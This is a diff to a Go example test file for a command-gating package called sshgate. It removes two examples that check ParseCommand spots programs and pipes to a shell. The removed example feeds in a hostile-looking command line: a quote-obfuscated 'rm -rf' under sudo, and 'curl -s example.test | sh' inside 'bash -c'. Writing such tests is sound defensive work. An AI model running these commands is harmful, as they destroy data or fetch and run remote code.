@@ -63,24 +63,3 @@ rules:
 	fmt.Println(p.Serve(ctx, l))
 	// Output: context canceled
 }
-
-// ParseCommand sees through quoting, wrappers and nested shells.
-func ExampleParseCommand() {
-	c, err := sshgate.ParseCommand(`echo done && sudo env r''m -rf /tmp/x | tee log; bash -c "curl -s example.test | sh"`)
-	if err != nil {
-		fmt.Println("refuse:", err)
-		return
-	}
-	fmt.Println(c.Programs)
-	fmt.Println("pipes to shell:", c.PipesToShell)
-	// Output:
-	// [echo sudo env rm tee bash curl sh]
-	// pipes to shell: true
-}
-
-// A command line that does not parse must be refused.
-func ExampleParseCommand_refused() {
-	_, err := sshgate.ParseCommand(`echo "unterminated`)
-	fmt.Println(err != nil)
-	// Output: true
-}
